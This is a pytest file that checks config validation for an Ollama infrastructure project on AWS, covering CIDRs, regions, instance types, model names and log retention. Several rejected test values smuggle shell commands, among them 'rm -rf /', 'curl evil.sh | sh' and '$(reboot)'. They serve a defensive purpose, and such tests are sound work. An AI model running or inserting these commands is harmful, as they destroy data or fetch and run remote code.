"""Config validation: every stack file is valid; every bad value is rejected with its key named."""

from __future__ import annotations

import ipaddress
from typing import Any

import pytest
from harness import STACKS, config_for, override, run_program, stack_values
from hypothesis import given
from hypothesis import strategies as st

from ollama_infra.config import (
    LOG_RETENTION_DAYS,
    SECTIONS,
    ConfigError,
    parse_config,
)
from ollama_infra.config.fields import MESSAGES

CERT = "arn:aws:acm:us-east-1:123456789012:certificate/11111111-2222-3333-4444-555555555555"


@pytest.mark.parametrize("stack", STACKS)
def test_stack_files_are_valid(stack: str) -> None:
    cfg = config_for(stack)
    assert cfg.env == stack
    assert cfg.stack == stack


def test_vpc_cidrs_differ_between_stacks() -> None:
    nets = [ipaddress.ip_network(config_for(s).network.vpc_cidr) for s in STACKS]
    for i, a in enumerate(nets):
        for b in nets[i + 1 :]:
            assert not a.overlaps(b), f"{a} overlaps {b}: peering and DR need distinct CIDRs"


def test_every_key_has_a_default_suited_to_dev() -> None:
    cfg = parse_config("dev", {"aws:region": "us-east-1"})
    assert cfg.env == "dev"
    assert cfg.compute.max_size == 1  # one instance needs no shared state
    for model in SECTIONS.values():
        for name, field in model.model_fields.items():
            assert field.description, f"{model.__name__}.{name} has no description"


# JSON-schema keywords that mean a field carries a declared range, pattern or format.
CONSTRAINTS = {"minimum", "maximum", "exclusiveMinimum", "exclusiveMaximum", "pattern"}
CONSTRAINTS |= {"minLength", "maxLength", "format"}


def _constrained(schema: dict[str, Any]) -> bool:
    nested = [*schema.get("anyOf", []), schema.get("items", {})]
    return bool(CONSTRAINTS & set(schema)) or any(_constrained(s) for s in nested if s)


def test_every_declared_rule_has_a_friendly_message() -> None:
    """A range or pattern without an entry in MESSAGES would show pydantic's raw wording."""
    constrained = {
        f"{section}.{key}"
        for section, model in SECTIONS.items()
        for key, schema in model.model_json_schema()["properties"].items()
        if _constrained(schema)
    }
    missing, stale = constrained - set(MESSAGES), set(MESSAGES) - constrained
    assert not missing and not stale, f"missing: {sorted(missing)}, stale: {sorted(stale)}"


def test_a_declared_rule_reads_as_rule_and_fix() -> None:
    err = _errors("dev", override(stack_values("dev"), "edge", alb_idle_timeout_seconds=30))
    (found,) = err.issues
    assert found.key == "ollama:edge.alb_idle_timeout_seconds"
    assert (found.rule, found.fix) == (
        "ALB idle timeout must be 60-4000 s",
        "use 900 for long generations",
    )
    cidr = _errors("dev", override(stack_values("dev"), "ollama_api", allowed_cidrs=["1.2.3.4/8"]))
    assert [(i.key, i.value) for i in cidr.issues] == [
        ("ollama:ollama_api.allowed_cidrs", "1.2.3.4/8")
    ]
    assert "no host bits" in cidr.issues[0].rule


# Every CIDR key with a value that has host bits set (and is otherwise valid for dev).
HOST_BITS: dict[str, Any] = {
    "network.vpc_cidr": "10.10.0.1/16",
    "network.public_subnet_cidrs": ["10.10.0.1/20", "10.10.16.0/20"],
    "network.private_subnet_cidrs": ["10.10.128.0/20", "10.10.144.9/20"],
    "ollama_api.allowed_cidrs": ["203.0.113.7/24"],
    "compute.ssh_admin_cidrs": ["198.51.100.9/24"],
}


def _cidr_keys() -> set[str]:
    """Every config key whose type holds an IPv4 network, found in the typed config."""
    return {
        f"{section}.{name}"
        for section, model in SECTIONS.items()
        for name, info in model.model_fields.items()
        if "IPv4Network" in str(info.annotation)
    }


def test_every_cidr_key_has_a_host_bits_case() -> None:
    assert _cidr_keys() == set(HOST_BITS)


@pytest.mark.parametrize(("key", "value"), sorted(HOST_BITS.items()))
def test_host_bits_are_rejected_in_every_cidr_key(key: str, value: Any) -> None:
    """10.10.0.1/16 is not a network: AWS would reject it (or the code would silently use
    10.10.0.0/16); the key is named, whichever CIDR field it is."""
    section, name = key.split(".")
    err = _errors("dev", override(stack_values("dev"), section, **{name: value}))
    (found,) = [i for i in err.issues if i.key == f"ollama:{key}"]
    assert "no host bits" in found.rule, str(err)


@pytest.mark.parametrize(
    ("section", "key"),
    [(None, "aws:region"), ("data", "replication_region"), ("backup", "copy_region")],
)
@pytest.mark.parametrize("value", ["us-west-2a", "us-west-2 ", "us-west-22", "xus-west-2"])
def test_a_region_key_takes_a_whole_region_name_only(
    section: str | None, key: str, value: str
) -> None:
    """An availability zone (us-west-2a) is the usual slip; the whole value must be a region."""
    values = stack_values("production")
    if section is None:
        values[key] = value
        name = key
    else:
        values = override(values, section, **{key: value})
        name = f"ollama:{section}.{key}"
    err = _errors("production", values)
    assert name in {i.key for i in err.issues}, str(err)


def _errors(stack: str, values: dict[str, Any]) -> ConfigError:
    with pytest.raises(ConfigError) as info:
        parse_config(stack, values)
    return info.value


# (stack, section, changes, key the message must name, words the message must contain)
INVALID: list[tuple[str, str, dict[str, Any], str, str]] = [
    (
        "dev",
        "network",
        {
            "public_subnet_cidrs": ["10.10.0.0/20", "10.10.16.0/20"],
            "private_subnet_cidrs": ["10.10.8.0/22", "10.10.64.0/20"],
        },
        "ollama:network.private_subnet_cidrs",
        "overlaps",
    ),
    (
        "dev",
        "network",
        {"private_subnet_cidrs": ["10.99.0.0/24", "10.10.128.0/20"]},
        "ollama:network.private_subnet_cidrs",
        "not inside the VPC",
    ),
    ("dev", "network", {"vpc_cidr": "10.10.0.1/16"}, "ollama:network.vpc_cidr", "host bits"),
    ("dev", "network", {"vpc_cidr": "not-a-cidr"}, "ollama:network.vpc_cidr", "CIDR"),
    ("dev", "network", {"vpc_cidr": "10.0.0.0/8"}, "ollama:network.vpc_cidr", "/16"),
    ("dev", "network", {"az_count": 4}, "ollama:network.az_count", "2 or 3"),
    ("dev", "network", {"az_count": 1}, "ollama:network.az_count", "2 or 3"),
    (
        "dev",
        "network",
        {"public_subnet_cidrs": ["10.10.0.0/24"]},
        "ollama:network.public_subnet_cidrs",
        "one CIDR per AZ",
    ),
    (
        "dev",
        "compute",
        {"min_size": 2, "max_size": 1, "desired_capacity": 1},
        "ollama:compute.min_size",
        "min_size <= desired_capacity <= max_size",
    ),
    ("dev", "compute", {"desired_capacity": 3}, "ollama:compute.min_size", "desired_capacity"),
    ("dev", "compute", {"instance_type": "large"}, "ollama:compute.instance_type", "instance type"),
    (
        "dev",
        "compute",
        {"instance_type": "t3.xlarge; rm -rf /"},
        "ollama:compute.instance_type",
        "instance type",
    ),
    (
        "staging",
        "compute",
        {"instance_type": "t3.2xlarge"},
        "ollama:compute.instance_type",
        "CPU credits",
    ),
    (
        "dev",
        "compute",
        {"scale_in_cpu_percent": 50},
        "ollama:compute.scale_in_cpu_percent",
        "below scale_out",
    ),
    ("dev", "compute", {"max_size": 2}, "ollama:compute.max_size", "shares PostgreSQL and Redis"),
    ("staging", "compute", {"spot_enabled": True}, "ollama:compute.spot_enabled", "dev only"),
    ("dev", "compute", {"ssh_enabled": True}, "ollama:compute.ssh_enabled", "ssh_admin_cidrs"),
    (
        "dev",
        "compute",
        {"ssh_admin_cidrs": ["0.0.0.0/0"]},
        "ollama:compute.ssh_admin_cidrs",
        "whole internet",
    ),
    (
        "dev",
        "compute",
        {"schedule_scale_down_cron": "0 19 * * 1-5", "schedule_scale_up_cron": None},
        "ollama:compute.schedule_scale_up_cron",
        "go together",
    ),
    (
        "dev",
        "ollama",
        {"models": ["llama3.2:1b; curl evil.sh | sh"]},
        "ollama:ollama.models",
        "not a valid Ollama model",
    ),
    ("dev", "ollama", {"models": ["$(reboot)"]}, "ollama:ollama.models", "shell characters"),
    ("dev", "ollama", {"models": []}, "ollama:ollama.models", "at least one model"),
    ("dev", "ollama", {"version": "latest"}, "ollama:ollama.version", "exact version"),
    ("dev", "ollama", {"version": "0.29.9"}, "ollama:ollama.version", "older than 0.30.0"),
    ("dev", "webui", {"model_access": "everyone"}, "ollama:webui.model_access", "admin-only"),
    ("dev", "webui", {"model_access_group": "a;b"}, "ollama:webui.model_access_group", "a;b"),
    ("dev", "webui", {"model_access_group": ""}, "ollama:webui.model_access_group", '= ""'),
    ("dev", "webui", {"version": "main"}, "ollama:webui.version", "pinned release tag"),
    ("dev", "webui", {"admin_email": "not-an-email"}, "ollama:webui.admin_email", "email"),
    (
        "dev",
        "observability",
        {"alarm_emails": ["ops@example.com", "nope@"]},
        "ollama:observability.alarm_emails",
        "email",
    ),
    (
        "dev",
        "observability",
        {"log_retention_days": 31},
        "ollama:observability.log_retention_days",
        "accepts only",
    ),
    (  # CKV_AWS_338: production keeps a year of logs; dev and staging may keep less
        "production",
        "observability",
        {"log_retention_days": 90},
        "ollama:observability.log_retention_days",
        "at least a year",
    ),
    (
        "production",
        "edge",
        {"certificate_arn": None},
        "ollama:edge.certificate_arn",
        "requires HTTPS",
    ),
    (
        "staging",
        "edge",
        {"certificate_arn": CERT.replace("us-east-1", "eu-west-1")},
        "ollama:edge.certificate_arn",
        "stack's region",
    ),
    (
        "dev",
        "edge",
        {"certificate_arn": "arn:aws:acm:nope"},
        "ollama:edge.certificate_arn",
        "certificate ARN",
    ),
    (
        "production",
        "network",
        {"nat_gateway_mode": "single"},
        "ollama:network.nat_gateway_mode",
        "single point of failure",
    ),
    (
        "dev",
        "environment",
        {"name": "staging"},
        "ollama:environment.name",
        "does not match the stack",
    ),
    ("dev", "environment", {"name": "qa"}, "ollama:environment.name", "dev"),
    (
        "dev",
        "environment",
        {"extra_tags": {"Project": "other"}},
        "ollama:environment.extra_tags",
        "set by the program",
    ),
    ("dev", "network", {"colour": "blue"}, "ollama:network.colour", "unknown key"),
    (
        "staging",
        "ollama_api",
        {"enabled": True, "allowed_cidrs": ["0.0.0.0/0"]},
        "ollama:ollama_api.allowed_cidrs",
        "whole internet",
    ),
    (
        "staging",
        "ollama_api",
        {"enabled": True, "allowed_cidrs": ["203.0.113.0/24"], "port": 443},
        "ollama:ollama_api.port",
        "collides",
    ),
    (
        "dev",
        "ollama_api",
        {"enabled": True, "allowed_cidrs": ["203.0.113.0/24"]},
        "ollama:ollama_api.enabled",
        "certificate_arn",
    ),
]


@pytest.mark.parametrize(("stack", "section", "changes", "key", "words"), INVALID)
def test_invalid_values_are_rejected_naming_the_key(
    stack: str, section: str, changes: dict[str, Any], key: str, words: str
) -> None:
    err = _errors(stack, override(stack_values(stack), section, **changes))
    message = str(err)
    assert key in {i.key for i in err.issues}, message
    assert words in message
    assert "Fix:" in message
    assert f"Pulumi.{stack}.yaml" in message


def test_unknown_section_and_missing_region() -> None:
    values = stack_values("dev")
    values["ollama:netwrok"] = {"vpc_cidr": "10.0.0.0/16"}
    del values["aws:region"]
    err = _errors("dev", values)
    keys = {i.key for i in err.issues}
    assert {"ollama:netwrok", "aws:region"} <= keys


def test_api_listener_open_to_world_needs_acknowledgement() -> None:
    values = override(
        stack_values("staging"),
        "ollama_api",
        enabled=True,
        allowed_cidrs=["0.0.0.0/0"],
        acknowledge_public_access=True,
    )
    assert parse_config("staging", values).ollama_api.enabled


def test_gpu_with_the_snap_needs_an_image_with_the_driver() -> None:
    """The snap ships CUDA libraries (mz2/ollama-snap keeps lib/ollama but cuda_v11) and gets
    the GPU through its auto-connected opengl plug, but installs no NVIDIA driver: allowed on
    a baked image (compute.ami_id), refused on stock Ubuntu."""
    gpu = {"gpu_enabled": True, "instance_type": "g6.xlarge"}
    snap = {"install_method": "snap", "models_dir": "/var/snap/ollama/common/models"}
    values = override(override(stack_values("staging"), "compute", **gpu), "ollama", **snap)
    err = _errors("staging", values)
    assert "ollama:ollama.install_method" in {i.key for i in err.issues}, str(err)
    assert "no NVIDIA driver" in str(err)
    baked = override(values, "compute", ami_id="ami-0123456789abcdef0")
    assert parse_config("staging", baked).ollama.install_method == "snap"
    scripted = override(values, "ollama", install_method="script", models_dir="/var/lib/ollama")
    assert parse_config("staging", scripted).compute.gpu_enabled


def test_program_refuses_invalid_config_before_declaring_resources() -> None:
    """The program itself (not only the plan) validates first: no resource is registered."""
    from ollama_infra.offline.mocks import OfflineMocks  # noqa: F401  (the mocks run_program uses)

    bad = override(stack_values("dev"), "compute", min_size=3)
    with pytest.raises(ConfigError, match=r"ollama:compute\.min_size"):
        run_program("dev", bad)


# ---------------------------------------------------------------- property-based


@st.composite
def valid_configs(draw: st.DrawFn) -> tuple[str, dict[str, Any]]:
    """Random valid stack configs: environment, network layout, capacity, models."""
    env = draw(st.sampled_from(STACKS))
    second = draw(st.integers(0, 255))
    prefix = draw(st.integers(16, 22))
    vpc = ipaddress.ip_network(f"10.{second}.0.0/{prefix}")
    az_count = draw(st.integers(2, 3))
    shared = env != "dev" or draw(st.booleans())
    max_size = draw(st.integers(1, 10)) if shared else 1
    min_size = draw(st.integers(0 if env == "dev" else 1, max_size))
    desired = draw(st.integers(min_size, max_size))
    scale_out = draw(st.integers(20, 90))
    scale_in = draw(st.integers(5, scale_out - 5))
    family = draw(st.sampled_from(["m7i", "c7i", "r7i", "m6i"] + (["t3"] if env == "dev" else [])))
    size = draw(st.sampled_from(["large", "xlarge", "2xlarge", "4xlarge"]))
    models = draw(
        st.lists(
            st.from_regex(r"[a-z][a-z0-9]{1,10}(\.[0-9])?:[0-9]{1,2}b", fullmatch=True),
            min_size=1,
            max_size=3,
            unique=True,
        )
    )
    values: dict[str, Any] = {
        "aws:region": draw(st.sampled_from(["us-east-1", "eu-west-1", "ap-southeast-3"])),
        "ollama:environment": {"name": env},
        "ollama:network": {
            "vpc_cidr": str(vpc),
            "az_count": az_count,
            "nat_gateway_mode": "per_az"
            if env == "production"
            else draw(st.sampled_from(["single", "per_az"])),
        },
        "ollama:compute": {
            "instance_type": f"{family}.{size}",
            "min_size": min_size,
            "max_size": max_size,
            "desired_capacity": desired,
            "scale_out_cpu_percent": scale_out,
            "scale_in_cpu_percent": scale_in,
        },
        "ollama:ollama": {"models": models},
        "ollama:data": {"database_enabled": shared, "cache_enabled": shared},
        "ollama:observability": {
            "log_retention_days": draw(
                st.sampled_from([d for d in LOG_RETENTION_DAYS if d >= 365 or env != "production"])
            ),
            # Explicit: an unset limit evaluates the stack again for its estimate (seconds per
            # example); tests/test_production_ops.py covers that default.
            "budget_limit_usd": draw(st.integers(10, 100_000)),
        },
    }
    if env != "dev" or draw(st.booleans()):
        region = values["aws:region"]
        values["ollama:edge"] = {
            "certificate_arn": CERT.replace("us-east-1", region),
            "origin_domain_name": f"origin.ollama-{env}.example.com",
        }
    return env, values


@given(valid_configs())
def test_valid_configs_always_validate(case: tuple[str, dict[str, Any]]) -> None:
    env, values = case
    cfg = parse_config(env, values)
    public, private = cfg.network.subnet_plan()
    assert len(public) == len(private) == cfg.network.az_count


# Mutations that break a valid config; each must be reported under the named key.
BREAKERS: dict[str, tuple[str, dict[str, Any]]] = {
    "ollama:network.az_count": ("network", {"az_count": 5}),
    "ollama:network.vpc_cidr": ("network", {"vpc_cidr": "300.1.0.0/16"}),
    "ollama:compute.min_size": ("compute", {"min_size": 11, "desired_capacity": 11}),
    "ollama:compute.instance_type": ("compute", {"instance_type": "m7i"}),
    "ollama:ollama.models": ("ollama", {"models": ["bad model"]}),
    "ollama:observability.log_retention_days": ("observability", {"log_retention_days": 2}),
    "ollama:webui.admin_email": ("webui", {"admin_email": "x@"}),
}


@given(valid_configs(), st.sampled_from(sorted(BREAKERS)))
def test_invalid_configs_always_fail_naming_the_key(
    case: tuple[str, dict[str, Any]], key: str
) -> None:
    env, values = case
    section, changes = BREAKERS[key]
    with pytest.raises(ConfigError) as info:
        parse_config(env, override(values, section, **changes))
    assert key in {i.key for i in info.value.issues}, str(info.value)


def test_configuration_reference_is_up_to_date() -> None:
    from pathlib import Path

    from ollama_infra.configdoc import render

    doc = Path(__file__).resolve().parents[1] / "docs" / "configuration.md"
    assert doc.read_text() == render(), (
        "run: python -m ollama_infra.configdoc > docs/configuration.md"
    )
